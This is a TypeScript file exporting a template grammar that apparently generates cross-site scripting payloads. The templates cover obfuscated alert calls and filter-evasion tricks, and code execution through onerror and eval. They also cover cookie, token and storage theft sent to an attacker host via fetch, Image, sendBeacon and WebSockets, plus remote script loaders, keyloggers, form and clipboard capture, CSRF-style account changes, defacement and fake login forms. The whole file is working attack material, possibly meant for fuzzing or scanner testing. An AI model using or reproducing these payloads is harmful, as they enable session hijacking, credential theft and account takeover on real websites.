/**
 * What cross-site scripting runs: calls, calls without parentheses, hidden and obfuscated code, exfiltration, hooks.
 * The context binds the quote `q` that a script may use, so that one set of scripts fits all contexts.
 */
export const XSS_SCRIPT = String.raw`
xs.shown = ‹n› ‹n› ‹n› ‹n› ‹n› ‹n› ‹n› 1 1 document.domain document.domain document.domain document.cookie
  document.cookie document.cookie /‹rnd›/ /‹rnd›/ ‹=q›‹rnd›‹=q› ‹=q›‹rnd›‹=q›
  ‹=q›‹XSS¦xss¦Xss¦hacked¦‹word›¦pwned␠by␠‹~3-8›¦‹^2-6››‹=q›
  ‹=q›‹XSS¦xss¦Xss¦hacked¦‹word›¦pwned␠by␠‹~3-8›¦‹^2-6››‹=q› location location.href document.location document.URL
  origin self.origin window.name document.title localStorage.‹xs.key› localStorage.getItem(‹=q›‹xs.key›‹=q›)
  JSON.stringify(localStorage) sessionStorage.‹xs.key› navigator.userAgent this ∅ /‹rnd›/.source
  document[‹=q›cookie‹=q›] document[‹=q›co‹=q›+‹=q›okie‹=q›] String.fromCharCode(‹charCodes!‹rnd››) 0x‹%2-6› ‹n›+‹n›
  -‹n› ‹#1-9›e‹#1-9› atob(‹=q›‹b64!‹rnd››‹=q›) document.body.innerHTML document.documentElement.outerHTML
  document.forms[0].‹col›.value document.querySelector(‹=q›[name=‹xs.key›]‹=q›).‹value¦content› performance.now()
  Date() ´§{document.‹domain¦cookie›}‹~0-2›´ document.cookie.split(‹=q›;‹=q›)[0]
  unescape(‹=q›‹percentAll!‹~3-6››‹=q›) [‹n›,‹n›] event top.location parent.document.cookie
xs.key = token csrf csrf_token session sid jwt access_token auth user authenticity_token _csrf api_key id_token refresh_token ‹~3-8› XSRF-TOKEN __RequestVerificationToken
xs.id = ‹~1› ‹~1-3› ‹~2-8› ‹~2-6›‹#1-99› ‹^1›‹~1-6› _‹~1-5› §‹~1-3› x a
xs.base = alert alert alert alert alert confirm confirm prompt prompt
xs.win = top self window this globalThis parent frames content document.defaultView
xs.fn = alert alert alert alert alert alert alert alert alert alert alert alert alert alert confirm confirm confirm
  confirm prompt prompt prompt prompt ‹xs.win›.‹xs.base› (‹xs.base›) (0,‹xs.base›) [‹xs.base›][0]
  (‹=i:‹xs.id››=‹xs.base›) ‹xs.win›[‹xs.split›] ‹xs.win›[‹=q›‹xs.base›‹=q›] ‹xs.win›[‹=q›‹xs.base›‹=q›]
  ‹xs.win›[‹=q›al‹=q›+‹=q›ert‹=q›] ‹xs.win›[‹=q›a‹=q›+‹=q›le‹=q›+‹=q›rt‹=q›] ‹xs.win›[‹=q›con‹=q›+/firm/.source]
  ‹xs.win›[/‹al/.source+/ert¦pro/.source+/mpt¦a/.source+/lert›/.source] ‹xs.win›[‹=q›‹backslashHex!‹xs.base››‹=q›]
  ‹xs.win›[‹=q›‹unicode!‹xs.base››‹=q›] ‹xs.win›[‹=q›‹octal!‹xs.base››‹=q›]
  ‹xs.win›[‹8680439..toString(30)¦11189117..toString(32)¦17795081..toString(36)¦9350252032..toString(30)¦630038579..toString(30)¦(8680439).toString(30)›]
  ‹xs.win›[String.fromCharCode(‹charCodes!‹xs.base››)] ‹xs.win›[atob(‹=q›‹b64!‹xs.base››‹=q›)]
  ‹xs.win›[‹=q›‹reverse!‹xs.base››‹=q›.split(‹=q›‹=q›).reverse().join(‹=q›‹=q›)]
  ‹xs.win›[‹=q›al‹~1-3›ert‹=q›.replace(/‹~1-3›/,‹=q›‹=q›)] ‹xs.win›[[‹=q›al‹=q›,‹=q›ert‹=q›].join(‹=q›‹=q›)]
  ‹xs.win›[‹=q›ale‹=q›.concat(‹=q›rt‹=q›)] ‹xs.win›[‹=q›xalert‹=q›.‹slice¦substr¦substring›(1)]
  ‹xs.win›[Object.keys(‹window¦self›)[‹#5-300›]]
  ‹\u0061lert¦al\u0065rt¦\u{61}lert¦a\u{6c}ert¦ale\u0072t¦con\u0066irm¦p\u0072ompt¦\u0061\u006c\u0065\u0072\u0074›
  ‹xs.win›?.‹xs.base› ‹xs.win›?.[‹=q›‹xs.base›‹=q›] ‹xs.win›.‹xs.win›.‹xs.base› Function(‹=q›return␠‹xs.base›‹=q›)()
  Reflect.get(‹window¦self›,‹=q›‹xs.base›‹=q›) document.write window.open document.defaultView[‹=q›‹xs.base›‹=q›]
  (()=>‹xs.base›)() top[‹=i:‹xs.id››=‹=q›al‹=q›,‹=i›+=‹=q›ert‹=q›]
xs.split: ‹=q›‹a‹=q›+‹=q›lert¦ale‹=q›+‹=q›rt¦aler‹=q›+‹=q›t¦con‹=q›+‹=q›firm¦pro‹=q›+‹=q›mpt¦co‹=q›+‹=q›nfi‹=q›+‹=q›rm›‹=q›
xs.call: 14× ‹xs.fn›(‹xs.shown›)
  3× ‹xs.base›´‹n›´
  ‹xs.fn›´‹rnd›´
  ‹xs.base›´§{document.‹domain¦cookie›}´
  ‹xs.fn›?.(‹xs.shown›)
  ‹xs.fn›.call(‹null¦this¦1¦window¦self›,‹xs.shown›)
  ‹xs.fn›.apply(‹null¦this¦window›,[‹xs.shown›])
  ‹xs.fn›.bind()(‹xs.shown›)
  ‹xs.fn›.call´§{‹n›}§{‹n›}´
  ‹xs.base›/*‹~1-6›*/(‹xs.shown›)
  ‹xs.base›(/*‹~1-6›*/‹xs.shown›)
  ‹xs.base›␠(‹xs.shown›)
  ‹xs.base›⏎(⏎‹xs.shown›⏎)
  ‹xs.base›((‹xs.shown›))
  (‹xs.base›)((‹xs.shown›))
  ‹xs.base›(‹xs.base›(‹xs.shown›))
  ‹xs.base›&lpar;‹xs.shown›&rpar;
  ‹xs.base›&#40;‹n›&#41;
  ‹xs.base›&#x28;‹n›&#x29
  [‹n›].‹map¦find¦forEach¦some¦every¦filter¦findIndex¦flatMap¦findLast›(‹xs.fn›)
  [‹n›,‹n›].‹sort¦reduce¦reduceRight›(‹xs.base›)
  Array.from([‹n›],‹xs.base›)
  Reflect.apply(‹xs.base›,‹null¦this›,[‹xs.shown›])
  Reflect.apply.call´§{‹xs.base›}§{window}§{[‹n›]}´
  setTimeout(‹xs.base›,‹#0-999›,‹xs.shown›)
  setTimeout´‹xs.base›\x28‹n›\x29´
  setInterval´‹xs.base›\u0028‹n›\u0029´
  Function´‹xs.id›§{´‹xs.base›\x28‹n›\x29´}´´´
  Set.constructor´‹xs.base›\x28‹n›\x29´´´
  [].‹at¦sort¦map¦pop¦flat›.constructor´‹xs.base›\x28document.domain\x29´´´
  new Function´‹xs.base›\´‹n›\´´
  eval.call´§{‹=q›‹xs.base›\x28‹n›\x29‹=q›}´
  ´§{‹xs.base›(‹n›)}´
  ‹=q›‹xs.base›(‹n›)‹=q›.replace(/.+/,eval)
  ‹=q›‹n›‹=q›.replace(/‹.¦\d+¦^›/,‹xs.base›)
  JSON.parse(‹=q›[‹n›]‹=q›,‹xs.base›)
  Promise.resolve(‹n›).then(‹xs.base›)
  Promise.reject(‹n›).catch(‹xs.base›)
  requestAnimationFrame(‹xs.base›)
  queueMicrotask(‹xs.base›)
  addEventListener(‹=q›‹xs.ev›‹=q›,‹xs.base›)
  document.addEventListener(‹=q›‹xs.ev›‹=q›,()=>‹xs.base›(‹n›))
  new Proxy({},{get:‹xs.base›}).‹~1-3›
  Object.defineProperty({},‹=q›‹~1›‹=q›,{get:‹xs.base›}).‹~1›
  ({‹=i:‹xs.id››:‹xs.base›}).‹=i›(‹n›)
  (‹=i:‹xs.id››=>‹=i›(‹n›))(‹xs.base›)
  (function(){‹xs.base›(‹n›)})()
  !function(){‹xs.base›(‹n›)}()
  (()=>{‹xs.base›(‹n›)})()
  (async()=>{await ‹xs.base›(‹n›)})()
  new class{constructor(){‹xs.base›(‹n›)}}
  new class{static{‹xs.base›(‹n›)}}
  class ‹xs.id›{static ‹xs.id›=‹xs.base›(‹n›)}
  {‹xs.base›(‹n›)}
  ‹xs.id›=‹xs.base›,‹xs.id›(‹n›)
  ‹=i:‹xs.id››=‹xs.base›;‹=i›(‹n›)
  ‹=i:‹xs.id››=‹xs.win›,‹=i›.‹xs.base›(‹n›)
  let{‹xs.base›:‹=i:‹xs.id››}=window;‹=i›(‹n›)
  var ‹=i:‹xs.id››=‹xs.base›;‹=i›(‹xs.shown›)
  with(document)‹xs.base›(cookie)
  with(‹xs.win›)‹xs.base›(‹n›)
  if(‹n›)‹xs.base›(‹xs.shown›)
  ‹#1-9›?‹xs.base›(‹xs.shown›):0
  try{‹~2-5›}catch(‹=i:‹xs.id››){‹xs.base›(‹=i›)}
  for(‹=i:‹xs.id›› of [‹n›])‹xs.base›(‹=i›)
  for(‹=i:‹xs.id›› in self)if(/^al..t/.test(‹=i›))self[‹=i›](‹n›)
  while(‹xs.base›(‹n›))break
  switch(‹n›){default:‹xs.base›(‹n›)}
  ‹!¦~¦-¦+¦void ¦typeof ¦delete ¦new ›‹xs.base›(‹xs.shown›)
  ‹xs.base›(‹xs.shown›)‹-¦+¦*¦/¦^¦|¦,¦<¦%¦in¦instanceof›‹xs.base›(‹xs.shown›)
  self[‹=q›doc‹=q›+‹=q›ument‹=q›][‹=q›title‹=q›]=‹xs.base›(‹n›)
  ‹=q›‹n›‹=q›in‹xs.base›(‹n›)
xs.nocall: onerror=‹xs.base›;throw ‹n›
  {onerror=‹xs.base›}throw ‹n›
  throw onerror=‹xs.base›,‹n›
  throw[onerror]=[‹xs.base›],‹n›
  throw{},onerror=‹xs.base›,‹n›
  {onerror=eval}throw{lineNumber:1,columnNumber:1,fileName:1,message:‹=q›‹xs.base›\x28‹n›\x29‹=q›}
  onerror=eval;throw‹=q›=‹xs.base›\x28‹n›\x29‹=q›
  throw onerror=eval,‹=q›=‹xs.base›\x28‹n›\x29‹=q›
  try{throw onerror=‹xs.base›}catch{throw ‹n›}
  window.onerror=‹xs.base›;‹~2-6›
  ‹=i:on›‹error¦unhandledrejection›=‹xs.base›;Promise.reject(‹n›)
  TypeError.prototype.name=‹=q›=/‹=q›,0[onerror=eval][‹=q›/-‹xs.base›(‹n›)//‹=q›]
  ‹=q›‹xs.base›\x28‹n›\x29‹=q›instanceof{[Symbol.hasInstance]:eval}
  Array.prototype[Symbol.hasInstance]=eval;‹=q›‹xs.base›\x28‹n›\x29‹=q›instanceof[]
  valueOf=‹xs.base›;window+‹n›
  window.valueOf=‹xs.base›;+window
  toString=‹xs.base›;window+‹=q›‹=q›
  ({toString:‹xs.base›,valueOf:‹xs.base›})+1
  {}[{toString:()=>‹xs.base›´‹n›´}]
  location=‹=q›javascript:‹xs.base›\x28‹n›\x29‹=q›
  location=‹=q›javascript:‹xs.base›%28‹n›%29‹=q›
  location=‹=q›javas‹=q›+‹=q›cript:‹xs.base›(‹n›)‹=q›
  location=name
  location=location.hash.‹slice(1)¦substr(1)›
  location.href=‹=q›javascript:‹xs.base›(‹n›)‹=q›
  location.‹assign¦replace›(‹=q›javascript:‹xs.base›(‹n›)‹=q›)
  ‹top.¦self.¦parent.¦document.¦window.›location=‹=q›javascript:‹xs.base›(‹n›)//‹=q›
  open(‹=q›javascript:‹xs.base›(opener.document.domain)‹=q›)
  document.body.‹onclick¦onload¦onpointermove¦onkeydown›=‹xs.base›
  on‹load¦hashchange¦click¦pageshow¦message¦popstate¦keydown›=‹xs.base›
  document.on‹xs.ev›=‹xs.base›
  import(‹=q›//‹host›‹=q›)
  import´//‹host›/´
  import(/\\‹host›/.source)
  import(‹=q›data:text/javascript,‹xs.base›(‹n›)‹=q›)
xs.hidden: 4× ‹xs.base›(‹n›)
  2× ‹xs.base›(document.‹domain¦cookie›)
  ‹xs.base›("‹rnd›")
  import("//‹host›/")
  document.location="‹scheme›://‹addr›/?‹~1-2›="+document.cookie
  fetch("//‹host›/"+btoa(document.cookie))
  var ‹=i:‹xs.id››=document.createElement("script");‹=i›.src="//‹host›/‹~1-3›";document.body.appendChild(‹=i›)
  document.write("<script src=//‹host›></script>")
  new Image().src="//‹addr›/‹~1-3›?"+document.cookie
  setInterval(function(){‹xs.base›(‹n›)},‹#10-9999›)
  debugger;‹xs.base›(‹n›)
  with(document)body.appendChild(createElement("script")).src="//‹host›"
  §.getScript("//‹host›")
  location="//‹host›"
xs.coded: 5× atob(‹=q›‹b64!‹xs.hidden››‹=q›)
  atob´‹b64!‹xs.hidden››´
  2× ‹=q›‹backslashHex!‹xs.hidden››‹=q›
  ‹=q›‹unicode!‹xs.hidden››‹=q›
  ‹=q›‹octal!‹xs.base›(‹n›)›‹=q›
  3× String.fromCharCode(‹charCodes!‹xs.hidden››)
  String.fromCodePoint(‹charCodes!‹xs.base›(‹n›)›)
  String[‹=q›fromCharCode‹=q›](‹charCodes!‹xs.base›(‹n›)›)
  2× unescape(‹=q›‹percentAll!‹xs.hidden››‹=q›)
  decodeURI‹¦Component›(‹=q›‹percent!‹xs.hidden››‹=q›)
  ‹=q›‹reverse!‹xs.base›(‹n›)›‹=q›.split(‹=q›‹=q›).reverse().join(‹=q›‹=q›)
  [...‹=q›‹reverse!‹xs.base›(‹n›)›‹=q›].reverse().join(‹=q›‹=q›)
  ‹xs.split›+‹=q›(‹n›)‹=q›
  ‹=q›al‹=q›+‹=q›ert(‹=q›+‹n›+‹=q›)‹=q›
  [‹charCodes!‹xs.base›(‹n›)›].map(‹=i:‹~1››=>String.fromCharCode(‹=i›)).join(‹=q›‹=q›)
  [‹charCodes!‹xs.base›(‹n›)›].reduce((‹=i:‹~1›1›,‹=j:‹~1›2›)=>‹=i›+String.fromCharCode(‹=j›),‹=q›‹=q›)
  /‹xs.base›(‹n›)/.source
  ´‹xs.base›\x28‹n›\x29´
  ‹=q›‹xs.base›\x28‹n›\x29‹=q›
  ‹=q›‹xs.hidden›‹=q›
  ‹=q›‹=q›+‹=q›‹xs.base›(‹n›)‹=q›
  name
  window.name
  opener.name
  location.hash.‹slice(1)¦substr(1)¦substring(1)¦split(‹=q›#‹=q›)[1]›
  decodeURIComponent(location.‹hash¦search›.slice(‹#1-9›))
  location.search.split(‹=q›‹~1-3›=‹=q›)[1]
  new URLSearchParams(location.search).get(‹=q›‹~1-4›‹=q›)
  ‹=q›´‹=q›+URL
  URL.slice(‹#10-99›)
  document.referrer.split(‹=q›?‹=q›)[1]
  localStorage.‹~1-6›
  document.getElementById(‹=q›‹~1-6›‹=q›).‹innerHTML¦textContent¦title¦value¦dataset.‹~1-3››
  document.querySelector(‹=q›‹xs.tag›‹=q›).‹innerText¦id¦className›
  this.id
  this.title
  this.dataset.‹~1-3›
  (await(await fetch(‹=q›//‹host›/‹=q›)).text())
  ‹=q›‹^2-6›‹xs.base›(‹n›)‹=q›.slice(‹#2-6›)
  ‹=q›‹xs.base›‹~1-3›(‹n›)‹=q›.replace(/‹~1-3›/g,‹=q›‹=q›)
  ‹=q›‹xs.base›|(‹n›)‹=q›.split(‹=q›|‹=q›).join(‹=q›‹=q›)
xs.eval: 6× eval(‹xs.coded›)
  2× Function(‹xs.coded›)()
  new Function(‹xs.coded›)()
  (new Function(‹xs.coded›))()
  2× setTimeout(‹xs.coded›)
  setTimeout(‹xs.coded›,‹#0-9999›)
  setInterval(‹xs.coded›,‹#100-9999›)
  setImmediate(‹xs.coded›)
  execScript(‹xs.coded›)
  [].‹constructor¦filter¦map¦find¦sort¦at¦concat›.constructor(‹xs.coded›)()
  [][‹=q›‹filter¦sort¦map¦flat›‹=q›][‹=q›constructor‹=q›](‹xs.coded›)()
  [].constructor.constructor(‹xs.coded›)()
  ‹=q›‹=q›.‹sub¦link¦big¦bold¦at¦trim›.constructor(‹xs.coded›)()
  ‹Set¦Map¦Date¦Image¦Array¦RegExp¦Number¦isNaN¦escape›.constructor(‹xs.coded›)()
  (()=>{}).constructor(‹xs.coded›)()
  (function*(){}).constructor(‹xs.coded›)().next()
  (async()=>{}).constructor(‹xs.coded›)()
  (0,eval)(‹xs.coded›)
  (‹=i:‹xs.id››=eval)(‹xs.coded›)
  ‹xs.win›[‹=q›ev‹=q›+‹=q›al‹=q›](‹xs.coded›)
  ‹xs.win›[‹=q›‹eval¦setTimeout¦Function›‹=q›](‹xs.coded›)
  ‹xs.win›[/ev/.source+/al/.source](‹xs.coded›)
  ‹xs.win›[‹693741..toString(36)¦490837..toString(32)›](‹xs.coded›)
  ‹xs.win›.eval(‹xs.coded›)
  \u0065val(‹xs.coded›)
  ev\u{61}l(‹xs.coded›)
  Reflect.construct(Function,[‹xs.coded›])()
  ‹=i:‹xs.id››=‹xs.coded›;eval(‹=i›)
  [‹xs.coded›].‹map¦some¦find¦forEach›(eval)
  document.write(‹=q›<script>‹=q›+‹xs.coded›+‹=q›<\/script>‹=q›)
  document.write(‹xs.coded›)
  document.body.innerHTML=‹xs.coded›
  §(‹xs.coded›)
  jQuery.globalEval(‹xs.coded›)
  angular.element(document.body).injector().get(‹=q›§rootScope‹=q›).§eval(‹xs.coded›)
xs.url = ‹scheme›://‹addr›/‹¦‹~1-6›¦‹~1-6›.‹js¦php¦html¦cgi›¦‹~2-6›/‹~1-5›¦‹*4-12››
  ‹scheme›://‹addr›/‹¦‹~1-6›¦‹~1-6›.‹js¦php¦html¦cgi›¦‹~2-6›/‹~1-5›¦‹*4-12››
  ‹scheme›://‹addr›/‹¦‹~1-6›¦‹~1-6›.‹js¦php¦html¦cgi›¦‹~2-6›/‹~1-5›¦‹*4-12›› //‹host›‹¦/¦/‹~1-5›¦/‹*3-8›¦/‹~1-5›.js›
  //‹host›‹¦/¦/‹~1-5›¦/‹*3-8›¦/‹~1-5›.js› //‹host›‹¦/¦/‹~1-5›¦/‹*3-8›¦/‹~1-5›.js› //‹ip›:‹port›/‹~1-5›
  ‹scheme›://‹addr› \/\/‹host› /\‹host› //‹host›%2f‹~1-4› //‹#16777216-4294967294›/‹~1-3› //0x‹%8›/
xs.log: 3× ‹scheme›://‹addr›/‹¦‹~1-6›¦‹~1-6›.php¦collect¦log¦steal¦c¦cookie›?‹~1-6›=
  2× //‹host›/‹¦‹~1-5›¦‹~1-5›/¦‹~1-4›?¦?›
  ‹scheme›://‹ip›:‹port›/‹~0-5›?
  https://‹host›/‹~1-6›/‹*6-20›?‹~1-2›=
xs.loot: 6× document.cookie
  2× escape(document.cookie)
  2× encodeURIComponent(document.cookie)
  2× btoa(document.cookie)
  document[‹=q›cookie‹=q›]
  document[‹=q›co‹=q›+‹=q›okie‹=q›]
  localStorage.getItem(‹=q›‹xs.key›‹=q›)
  localStorage.‹xs.key›
  JSON.stringify(‹localStorage¦sessionStorage¦window.__‹^3-7›__¦Object.entries(localStorage)›)
  sessionStorage[‹=q›‹xs.key›‹=q›]
  btoa(document.documentElement.innerHTML)
  btoa(unescape(encodeURIComponent(document.body.outerHTML)))
  document.forms[0].‹col›.value
  document.querySelector(‹=q›‹[name=‹xs.key›]¦input[type=password]¦meta[name=‹xs.key›]¦#‹col››‹=q›).‹value¦content›
  document.getElementsByName(‹=q›‹xs.key›‹=q›)[0].value
  window.‹csrfToken¦authToken¦user.‹col›¦__INITIAL_STATE__.‹col››
  encodeURI(location+document.cookie)
  navigator.userAgent+document.cookie
  document.domain+‹=q›|‹=q›+document.cookie
  document.cookie.match(/‹xs.key›=([^;]+)/)[1]
xs.steal: 3× ‹xs.where›=‹=q›‹xs.log›‹=q›+‹xs.loot›
  ‹¦window.¦document.¦top.›location.‹assign¦replace›(‹=q›‹xs.log›‹=q›+‹xs.loot›)
  2× new Image().src=‹=q›‹xs.log›‹=q›+‹xs.loot›
  new Image‹¦()›.src=‹=q›‹xs.log›‹=q›.concat(‹xs.loot›)
  (new Image).src=´‹xs.log›§{‹xs.loot›}´
  ‹=i:‹xs.id››=new Image();‹=i›.src=‹=q›‹xs.log›‹=q›+‹xs.loot›
  document.images[0].src=‹=q›‹xs.log›‹=q›+‹xs.loot›
  this.src=‹=q›‹xs.log›‹=q›+‹xs.loot›
  this.onerror=null;this.src=‹=q›‹xs.log›‹=q›+‹xs.loot›
  this.href=‹=q›‹xs.log›‹=q›+‹xs.loot›
  3× fetch(‹=q›‹xs.log›‹=q›+‹xs.loot›)
  fetch(´‹xs.log›§{‹xs.loot›}´)
  2× fetch(‹=q›‹xs.url›‹=q›,{method:‹=q›POST‹=q›,‹mode:‹=q›no-cors‹=q›,¦¦credentials:‹=q›include‹=q›,›body:‹xs.loot›})
  fetch(‹=q›/‹account¦profile¦api/‹me¦user¦keys¦token›¦admin¦‹word›¦flag›‹=q›).then(‹=i:‹~1››=>‹=i›.text()).then(‹=i›=>fetch(‹=q›‹xs.url›‹=q›,{method:‹=q›POST‹=q›,body:‹¦btoa(›‹=i›}))
  navigator.sendBeacon(‹=q›‹xs.url›‹=q›,‹xs.loot›)
  navigator[‹=q›sendBeacon‹=q›](‹=q›‹xs.url›‹=q›,‹xs.loot›)
  2× ‹=i:‹xs.id››=new XMLHttpRequest();‹=i›.open(‹=q›‹GET¦POST›‹=q›,‹=q›‹xs.log›‹=q›+‹xs.loot›‹¦,true¦,false›);‹=i›.send()
  var ‹=i:‹xs.id››=new XMLHttpRequest;‹=i›.open(‹=q›POST‹=q›,‹=q›‹xs.url›‹=q›);‹=i›.send(‹xs.loot›)
  with(new XMLHttpRequest)open(‹=q›GET‹=q›,‹=q›‹xs.log›‹=q›+‹xs.loot›),send()
  new ‹WebSocket(‹=q›ws¦EventSource(‹=q›http›‹¦s›://‹addr›/‹=q›+‹xs.loot›)
  ‹=i:‹xs.id››=new WebSocket(‹=q›wss://‹addr›‹=q›);‹=i›.onopen=()=>‹=i›.send(‹xs.loot›)
  document.write(‹=q›<img src=‹xs.log›‹=q›+‹xs.loot›+‹=q›>‹=q›)
  document.write(‹=q›<iframe src=‹xs.log›‹=q›+‹xs.loot›+‹=q› width=0 height=0></iframe>‹=q›)
  document.body.innerHTML+=´<img src="‹xs.log›§{‹xs.loot›}">´
  document.body.appendChild(document.createElement(‹=q›img‹=q›)).src=‹=q›‹xs.log›‹=q›+‹xs.loot›
  open(‹=q›‹xs.log›‹=q›+‹xs.loot›)
  window.open(‹=q›‹xs.log›‹=q›+‹xs.loot›,‹=q›_‹self¦blank›‹=q›)
  document.forms[0].action=‹=q›‹xs.url›‹=q›
  §.‹get¦post¦ajax›(‹=q›‹xs.url›‹=q›,{‹~1-3›:‹xs.loot›})
  axios.post(‹=q›‹xs.url›‹=q›,{‹~1-4›:‹xs.loot›})
  parent.postMessage(‹xs.loot›,‹=q›*‹=q›)
  opener.postMessage({‹~1-4›:‹xs.loot›},‹=q›*‹=q›)
  import(‹=q›‹xs.log›‹=q›+‹xs.loot›)
  new Worker(‹=q›‹xs.log›‹=q›+‹xs.loot›)
  new Audio(‹=q›‹xs.log›‹=q›+‹xs.loot›)
  document.head.appendChild(Object.assign(document.createElement(‹=q›link‹=q›),{rel:‹=q›‹dns-prefetch¦prefetch¦stylesheet›‹=q›,href:‹=q›//‹=q›+btoa(‹xs.loot›)+‹=q›.‹host›‹=q›}))
  new RTCPeerConnection({iceServers:[{urls:‹=q›stun:‹=q›+btoa(‹xs.loot›)+‹=q›.‹host›‹=q›}]}).createDataChannel(‹=q›‹=q›)
  cookieStore.getAll().then(‹=i:‹~1››=>fetch(‹=q›‹xs.log›‹=q›+JSON.stringify(‹=i›)))
  caches.keys().then(‹=i:‹~1››=>navigator.sendBeacon(‹=q›‹xs.url›‹=q›,‹=i›))
  indexedDB.databases().then(‹=i:‹~1››=>fetch(‹=q›‹xs.log›‹=q›+JSON.stringify(‹=i›)))
xs.where = location location document.location window.location top.location self.location parent.location location.href document.location.href window.location.href this.document.location
xs.hook: 3× ‹=i:‹xs.id››=document.createElement(‹=q›script‹=q›);‹=i›.src=‹=q›‹xs.url›‹=q›;document.‹body¦head¦documentElement›.appendChild(‹=i›)
  var ‹=i:‹xs.id››=document.createElement(‹=q›script‹=q›);‹=i›.‹src=‹=q›‹xs.url›‹=q›¦setAttribute(‹=q›src‹=q›,‹=q›‹xs.url›‹=q›)›;document.getElementsByTagName(‹=q›head‹=q›)[0].appendChild(‹=i›);
  document.body.appendChild(document.createElement(‹=q›script‹=q›)).src=‹=q›‹xs.url›‹=q›
  with(document)body.appendChild(createElement(‹=q›script‹=q›)).src=‹=q›‹xs.url›‹=q›
  (function(‹=i:d›,‹=j:s›){‹=j›=‹=i›.createElement(‹=q›script‹=q›);‹=j›.src=‹=q›‹xs.url›‹=q›;‹=i›.body.appendChild(‹=j›)})(document)
  document.write(‹=q›<scr‹=q›+‹=q›ipt src=‹xs.url›></scr‹=q›+‹=q›ipt>‹=q›)
  document.write(‹=q›\x3cscript src=‹xs.url›\x3e\x3c/script\x3e‹=q›)
  §‹¦.ajax¦jQuery›.getScript(‹=q›‹xs.url›‹=q›)
  jQuery.getScript(‹=q›‹xs.url›‹=q›)
  §.get(‹=q›‹xs.url›‹=q›,eval)
  fetch(‹=q›‹xs.url›‹=q›).then(‹=i:‹~1››=>‹=i›.text()).then(eval)
  fetch(‹=q›‹xs.url›‹=q›).then(async ‹=i:‹~1››=>eval(await ‹=i›.text()))
  import(‹=q›‹xs.url›‹=q›)
  importScripts(‹=q›‹xs.url›‹=q›)
  new Worker(URL.createObjectURL(new Blob([´importScripts("‹xs.url›")´])))
  navigator.serviceWorker.register(‹=q›/‹~2-6›?callback=importScripts(´//‹host›´)//‹=q›)
  §(‹=q›body‹=q›).append(‹=q›<script src=‹xs.url›><\/script>‹=q›)
  document.‹head¦body›.insertAdjacentHTML(‹=q›‹beforeend¦afterbegin›‹=q›,‹=q›<img src=x onerror=import("//‹host›")>‹=q›)
  document.body.innerHTML=‹=q›<iframe srcdoc="<script src=‹xs.url›></script>">‹=q›
  document.createRange().createContextualFragment(‹=q›<script src=‹xs.url›></script>‹=q›)
  setInterval(()=>fetch(‹=q›‹xs.url›‹=q›).then(‹=i:‹~1››=>‹=i›.text().then(eval)),‹#500-9999›)
  ‹=i:‹xs.id››=new XMLHttpRequest();‹=i›.open(‹=q›GET‹=q›,‹=q›‹xs.url›‹=q›,false);‹=i›.send();eval(‹=i›.responseText)
  new WebSocket(‹=q›wss://‹addr›‹=q›).onmessage=‹=i:‹~1››=>eval(‹=i›.data)
  onmessage=‹=i:‹~1››=>eval(‹=i›.data)
  document.‹onkeypress¦onkeydown¦onkeyup›=function(‹=i:‹e¦ev››){new Image().src=‹=q›‹xs.log›‹=q›+‹=i›.‹key¦which¦keyCode›}
  addEventListener(‹=q›key‹down¦press¦up›‹=q›,‹=i:‹~1››=>fetch(‹=q›‹xs.log›‹=q›+‹=i›.key))
  var ‹=k:‹xs.id››=‹=q›‹=q›;document.onkeypress=function(e){‹=k›+=String.fromCharCode(e.‹which¦keyCode›)};setInterval(function(){new Image().src=‹=q›‹xs.log›‹=q›+‹=k›},‹#500-9999›)
  document.forms[0].onsubmit=function(){fetch(‹=q›‹xs.log›‹=q›+new URLSearchParams(new FormData(this)))}
  document.querySelectorAll(‹=q›input‹=q›).forEach(‹=i:‹~1››=>‹=i›.oninput=()=>navigator.sendBeacon(‹=q›‹xs.url›‹=q›,‹=i›.value))
  document.addEventListener(‹=q›‹paste¦copy¦change›‹=q›,‹=i:‹~1››=>fetch(‹=q›‹xs.log›‹=q›+‹=i›.‹clipboardData.getData(‹=q›text‹=q›)¦target.value›))
  navigator.clipboard.readText().then(‹=i:‹~1››=>fetch(‹=q›‹xs.log›‹=q›+‹=i›))
  navigator.geolocation.getCurrentPosition(‹=i:‹~1››=>fetch(‹=q›‹xs.log›‹=q›+‹=i›.coords.latitude))
  html2canvas(document.body).then(‹=i:‹~1››=>fetch(‹=q›‹xs.url›‹=q›,{method:‹=q›POST‹=q›,body:‹=i›.toDataURL()}))
xs.act: fetch(‹=q›/‹xs.route›‹=q›,{method:‹=q›‹POST¦PUT¦DELETE¦PATCH›‹=q›,‹credentials:‹=q›include‹=q›,¦›headers:{‹=q›Content-Type‹=q›:‹=q›application/x-www-form-urlencoded‹=q›},body:‹=q›‹col›=‹rnd›&‹col›=‹~3-8›%40‹host›‹=q›})
  fetch(‹=q›/‹xs.route›‹=q›).then(‹=i:‹~1››=>‹=i›.text()).then(‹=i›=>{‹=j:t›=‹=i›.match(/‹xs.key›" value="(.+?)"/)[1];fetch(‹=q›/‹xs.route›‹=q›,{method:‹=q›POST‹=q›,body:‹=q›‹xs.key›=‹=q›+‹=j›+‹=q›&‹col›=‹rnd›‹=q›})})
  var ‹=i:‹xs.id››=new XMLHttpRequest();‹=i›.onload=function(){var ‹=j:‹xs.id››=/name="‹xs.key›" value="(\w+)"/.exec(this.responseText)[1];‹=i›.open(‹=q›POST‹=q›,‹=q›/‹xs.route›‹=q›);‹=i›.send(‹=q›‹xs.key›=‹=q›+‹=j›+‹=q›&‹col›=‹~3-8›‹=q›)};‹=i›.open(‹=q›GET‹=q›,‹=q›/‹xs.route›‹=q›);‹=i›.send()
  §.post(‹=q›/‹xs.route›‹=q›,{‹col›:‹=q›‹rnd›‹=q›,‹xs.key›:§(‹=q›[name=‹xs.key›]‹=q›).val()})
  document.forms[‹#0-3›].‹col›.value=‹=q›‹rnd›‹=q›;document.forms[‹#0-3›].submit()
  document.cookie=‹=q›‹xs.key›=‹*8-24›;path=/‹¦;domain=.‹host››‹=q›
  document.body.innerHTML=‹=q›<h1>‹hacked¦owned¦defaced› by ‹~3-8›</h1>‹=q›
  document.body.innerHTML=‹=q›<form action=‹xs.url›><input name=‹col›><input name=password type=password><button>Login</button></form>‹=q›
  document.getElementById(‹=q›‹~2-7›‹=q›).innerHTML=‹=q›‹xs.tiny›‹=q›
  document.querySelector(‹=q›form‹=q›).action=‹=q›‹xs.url›‹=q›
  history.pushState(‹=q›‹=q›,‹=q›‹=q›,‹=q›/login‹=q›);document.write(‹=q›<form action=‹xs.url›><input name=‹col›>‹=q›)
  for(;;)‹xs.base›(‹n›)
  while(1)open()
